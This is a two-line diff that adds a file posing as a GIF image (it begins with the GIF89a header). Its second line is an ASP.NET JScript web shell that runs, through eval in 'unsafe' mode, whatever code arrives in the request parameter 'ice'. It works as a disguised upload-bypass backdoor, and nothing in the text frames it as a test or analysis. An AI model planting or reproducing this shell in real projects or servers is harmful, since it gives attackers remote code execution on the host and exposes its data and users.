@@ -1,0 +1,2 @@
+GIF89a
+<%@ Page Language="Jscript"%><%eval(Request.Item["ice"],"unsafe");%>
